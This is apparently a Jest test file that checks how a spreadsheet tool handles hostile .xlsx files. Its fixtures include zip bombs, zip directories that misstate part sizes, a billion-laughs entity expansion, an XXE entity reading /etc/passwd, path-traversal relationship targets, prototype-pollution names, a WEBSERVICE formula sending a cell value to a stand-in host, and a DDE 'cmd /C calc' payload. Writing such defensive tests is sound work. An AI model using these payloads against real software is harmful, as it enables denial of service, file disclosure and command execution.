import { describe, expect, jest, test } from "@jest/globals";
import { zipSync } from "fflate";
import { excelGateway } from "../../src/excel/excel-gateway";
import { openWorkbook } from "../../src/workbook/open";
import { openBytes } from "../excel/open-layout";
import { layOut, officeForm } from "../form/form-layout";
import { engine } from "../workbook/engine";
import { partsOf, relationships, zipped, type Parts } from "../workbook/file";
import { hostileParts } from "./hostile-file";

jest.setTimeout(120_000);

const FORM = hostileParts(layOut(officeForm()).grid);
const SHEET = "xl/worksheets/sheet1.xml";
const BOOK = "xl/workbook.xml";
const MEGABYTE = 1024 * 1024;

/** The office's form with some of its parts replaced by what a function makes of them. */
function edited(edits: Readonly<Record<string, (text: string) => string>>, more: Parts = {}): Parts {
  const changed = Object.entries(edits).map(([name, edit]) => [name, edit(FORM[name] ?? "")] as const);
  return { ...FORM, ...Object.fromEntries(changed), ...more };
}

const before =
  (marker: string, text: string) =>
  (xml: string): string =>
    xml.replace(marker, () => text + marker);
const inSheet = (text: string): Parts => edited({ [SHEET]: before("<sheetData>", text) });
const raw = (parts: Parts): Record<string, Uint8Array> =>
  Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, new TextEncoder().encode(text)]));

/** A file whose directory says another unpacked size of a part than there is. */
function lyingAboutSize(parts: Parts, says: number): Uint8Array {
  const bytes = zipped(parts);
  const view = new DataView(bytes.buffer);
  for (let at = 0; at + 4 < bytes.length; at++) {
    if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, says, true);
  }
  return bytes;
}

const entities = `<!DOCTYPE worksheet [<!ENTITY a "ha"><!ENTITY b "${"&a;".repeat(1000)}"><!ENTITY c "${"&b;".repeat(1000)}">]>`;
const foreign = '<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
const withDoctype = (doctype: string, use: string): Parts =>
  edited({
    [SHEET]: (xml) =>
      xml
        .replace("<worksheet", () => `${doctype}<worksheet`)
        .replace("<is><t", () => `<is><t>${use}</t></is><is><t`),
  });

const REFUSED: readonly (readonly [string, () => Uint8Array, string])[] = [
  [
    "a bomb in one part",
    () => zipSync({ ...raw(FORM), [SHEET]: new Uint8Array(150 * MEGABYTE) }, { level: 9 }),
    "too-large",
  ],
  [
    "a bomb in a part that nobody reads",
    () => zipSync({ ...raw(FORM), "xl/media/a.bin": new Uint8Array(150 * MEGABYTE) }, { level: 9 }),
    "too-large",
  ],
  [
    "many small bombs",
    () =>
      zipSync(
        {
          ...raw(FORM),
          ...Object.fromEntries(
            Array.from({ length: 30 }, (_, i) => [`xl/media/${i}`, new Uint8Array(4 * MEGABYTE)]),
          ),
        },
        { level: 9 },
      ),
    "too-large",
  ],
  [
    "too many parts",
    () =>
      zipSync(
        {
          ...raw(FORM),
          ...Object.fromEntries(
            Array.from({ length: 10_001 }, (_, i) => [`xl/media/${i}`, new Uint8Array()]),
          ),
        },
        { level: 0 },
      ),
    "too-large",
  ],
  [
    "a bomb that calls itself small",
    () => lyingAboutSize({ ...FORM, [SHEET]: " ".repeat(20 * MEGABYTE) }, 100),
    "damaged",
  ],
  ["a part that calls itself larger than it is", () => lyingAboutSize(FORM, 3 * MEGABYTE), "damaged"],
  ["a part that calls itself endless", () => lyingAboutSize(FORM, 0xfffffffe), "too-large"],
  ["entities that multiply", () => zipped(withDoctype(entities, "&c;")), "damaged"],
  ["an entity that reads another file", () => zipped(withDoctype(foreign, "&x;")), "damaged"],
  ["no content types, no relationships", () => zipped({ [SHEET]: FORM[SHEET] ?? "" }), "not-a-workbook"],
  [
    "a workbook that is its own sheet",
    () =>
      zipped(
        edited({
          "xl/_rels/workbook.xml.rels": (xml) => xml.replace("worksheets/sheet1.xml", "workbook.xml"),
        }),
      ),
    "damaged",
  ],
  [
    "a sheet outside the file",
    () =>
      zipped(
        edited({
          "xl/_rels/workbook.xml.rels": (xml) => xml.replace("worksheets/sheet1.xml", "../../../etc/passwd"),
        }),
      ),
    "damaged",
  ],
  [
    "a sheet at an address",
    () =>
      zipped(
        edited({
          "xl/_rels/workbook.xml.rels": (xml) =>
            xml.replace(
              'Target="worksheets/sheet1.xml"',
              'Target="https://example.invalid/x.xml" TargetMode="External"',
            ),
        }),
      ),
    "damaged",
  ],
  [
    "a root that is a prototype",
    () => zipped({ ...FORM, [SHEET]: "<__proto__><constructor/></__proto__>" }),
    "damaged",
  ],
  ["a root that defines getters", () => zipped({ ...FORM, [SHEET]: "<__defineGetter__/>" }), "damaged"],
  [
    "depth without end",
    () => zipped({ ...FORM, [SHEET]: `${"<a>".repeat(200_000)}${"</a>".repeat(200_000)}` }),
    "damaged",
  ],
  [
    "rows beyond Excel's last",
    () =>
      zipped(
        edited({
          [SHEET]: (xml) =>
            xml.replace(
              "</sheetData>",
              '<row r="99999999999"><c r="A99999999999"><v>1</v></c></row></sheetData>',
            ),
        }),
      ),
    "damaged",
  ],
  [
    "columns beyond Excel's last",
    () =>
      zipped(
        edited({
          [SHEET]: (xml) =>
            xml.replace("</sheetData>", '<row r="900"><c r="ZZZ900"><v>1</v></c></row></sheetData>'),
        }),
      ),
    "damaged",
  ],
  [
    "a number that no double holds",
    () =>
      zipped(
        edited({
          [SHEET]: (xml) =>
            xml.replace("</sheetData>", '<row r="900"><c r="A900"><v>1e999</v></c></row></sheetData>'),
        }),
      ),
    "damaged",
  ],
  [
    "bytes that are no UTF-8",
    () => zipSync({ ...raw(FORM), [SHEET]: Uint8Array.of(0x3c, 0xff, 0xfe, 0x3e) }),
    "damaged",
  ],
];

const CALCULATED: readonly (readonly [string, () => Uint8Array])[] = [
  [
    "two sheets of one name",
    () =>
      zipped(
        edited({
          [BOOK]: (xml) =>
            xml.replace("</sheets>", '<sheet name="form 1" sheetId="5" r:id="rId1"/></sheets>'),
        }),
      ),
  ],
  [
    "names that climb out of the folder",
    () => zipped({ ...FORM, "../../../../tmp/keluar.txt": "x", "/etc/x": "x", "C:\\x": "x" }),
  ],
  ["names that are a prototype's", () => zipped({ ...FORM, constructor: "x", toString: "x" })],
  [
    "relationships in a circle",
    () =>
      zipped({
        ...FORM,
        "xl/worksheets/_rels/sheet1.xml.rels": relationships([
          ["comments", "sheet1.xml"],
          ["hyperlink", "../workbook.xml"],
        ]),
      }),
  ],
  [
    "relationships to nowhere",
    () =>
      zipped({
        ...FORM,
        "xl/worksheets/_rels/sheet1.xml.rels": relationships([
          ["comments", "../tidak-ada.xml"],
          ["vmlDrawing", "../../../../x"],
        ]),
      }),
  ],
  ["an absurd dimension", () => zipped(inSheet('<dimension ref="A1:XFD1048576"/>'))],
  ["a dimension that is none", () => zipped(inSheet('<dimension ref="=1+1"/>'))],
  [
    "columns described without end",
    () =>
      zipped(inSheet(`<cols>${'<col min="1" max="16384" width="1e9" style="99999"/>'.repeat(1000)}</cols>`)),
  ],
  [
    "a merged area as large as the sheet",
    () =>
      zipped(
        edited({
          [SHEET]: (xml) => xml.replace("</mergeCells>", '<mergeCell ref="K50:XFD1048576"/></mergeCells>'),
        }),
      ),
  ],
  [
    "merged areas that overlap",
    () =>
      zipped(
        edited({
          [SHEET]: (xml) =>
            xml.replace("</mergeCells>", `${'<mergeCell ref="K50:Z90"/>'.repeat(100)}</mergeCells>`),
        }),
      ),
  ],
  [
    "a conditional format over everything",
    () =>
      zipped(
        edited({
          [SHEET]: (xml) =>
            `${xml.replace("</worksheet>", "")}<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" dxfId="0" priority="1"><formula>SUM($A:$XFD)&gt;A1</formula></cfRule></conditionalFormatting></worksheet>`,
        }),
      ),
  ],
  [
    "a style that is not there",
    () => zipped(edited({ [SHEET]: (xml) => xml.replaceAll("<c r=", '<c s="4000000000" r=') })),
  ],
  [
    "an alignment that is a prototype's",
    () =>
      zipped(
        edited({
          "xl/styles.xml": (xml) =>
            xml.replace('horizontal="center"', 'horizontal="constructor" vertical="__proto__"'),
        }),
      ),
  ],
  [
    "a number format that is long and hostile",
    () =>
      zipped(
        edited({
          "xl/styles.xml": (xml) =>
            xml.replace(
              "<fonts",
              `<numFmts><numFmt numFmtId="49" formatCode="${"[".repeat(3000)}${"0,".repeat(3000)}${"&quot;".repeat(3001)}"/></numFmts><fonts`,
            ),
          [SHEET]: (xml) => xml.replaceAll("<c r=", '<c s="2" r='),
        }),
      ),
  ],
  [
    "names that are formulas of names",
    () =>
      zipped(
        edited({
          [BOOK]: (xml) =>
            xml.replace(
              "</workbook>",
              `<definedNames>${Array.from({ length: 500 }, (_, i) => `<definedName name="n${i}">n${(i + 1) % 500}+n${(i + 7) % 500}</definedName>`).join("")}<definedName name="__proto__">1</definedName></definedNames></workbook>`,
            ),
        }),
      ),
  ],
  [
    "formulas that refer to each other",
    () =>
      zipped(
        edited({
          [SHEET]: (xml) =>
            xml.replace(
              "</sheetData>",
              '<row r="900"><c r="A900"><f>B900+n1</f><v>1</v></c><c r="B900"><f>A900*2</f><v>1</v></c></row></sheetData>',
            ),
        }),
      ),
  ],
  [
    "formulas that call out",
    () =>
      zipped(
        edited({
          [SHEET]: (xml) =>
            xml.replace(
              "</sheetData>",
              `<row r="900"><c r="A900"><f>WEBSERVICE("https://example.invalid/"&amp;G9)</f><v>1</v></c><c r="B900"><f>cmd|' /C calc'!A0</f><v>1</v></c><c r="C900"><f>${"(".repeat(5000)}1${")".repeat(5000)}</f><v>1</v></c></row></sheetData>`,
            ),
        }),
      ),
  ],
  [
    "three hundred thousand shared strings",
    () => zipped({ ...FORM, "xl/sharedStrings.xml": `<sst>${"<si><t>x</t></si>".repeat(300_000)}</sst>` }),
  ],
  [
    "another add-in's settings, and a circle of panes",
    () =>
      zipped({
        ...FORM,
        "_rels/.rels": relationships([
          ["officeDocument", "xl/workbook.xml"],
          ["http://x/webextensiontaskpanes", "xl/panes.xml"],
        ]),
        "xl/panes.xml": "<p/>",
        "xl/_rels/panes.xml.rels": relationships([
          ["http://x/webextension", "panes.xml"],
          ["http://x/webextension", "../xl/workbook.xml"],
        ]),
      }),
  ],
];

describe("a file that was made to do harm", () => {
  test.each(REFUSED)("%s: is refused in one sentence", async (_, file, code) => {
    const result = await openWorkbook(file(), "uji.xlsx", engine);
    expect(result.ok ? "opened" : result.failure.code).toBe(code);
    if (!result.ok) expect(result.failure.message).toMatch(/^\p{Lu}[^.]*(\.xlsx?[^.]*)*\.$/u);
  });

  test.each(CALCULATED)("%s: is calculated like any other, and saved with that in it", async (_, file) => {
    const bytes = file();
    const { workbook } = await openBytes(bytes);
    const answer = await excelGateway().recalculate();
    expect(answer.ok && answer.value.outcomes.map(({ status }) => status)).toEqual(
      officeForm().map(() => "computed"),
    );
    const saved = partsOf(await workbook.save());
    const lost = Object.keys(partsOf(bytes)).filter((name) => !Object.hasOwn(saved, name));
    expect(lost).toEqual([]);
    expect(await openWorkbook(await workbook.save(), "uji.xlsx", engine)).toMatchObject({ ok: true });
  });
});
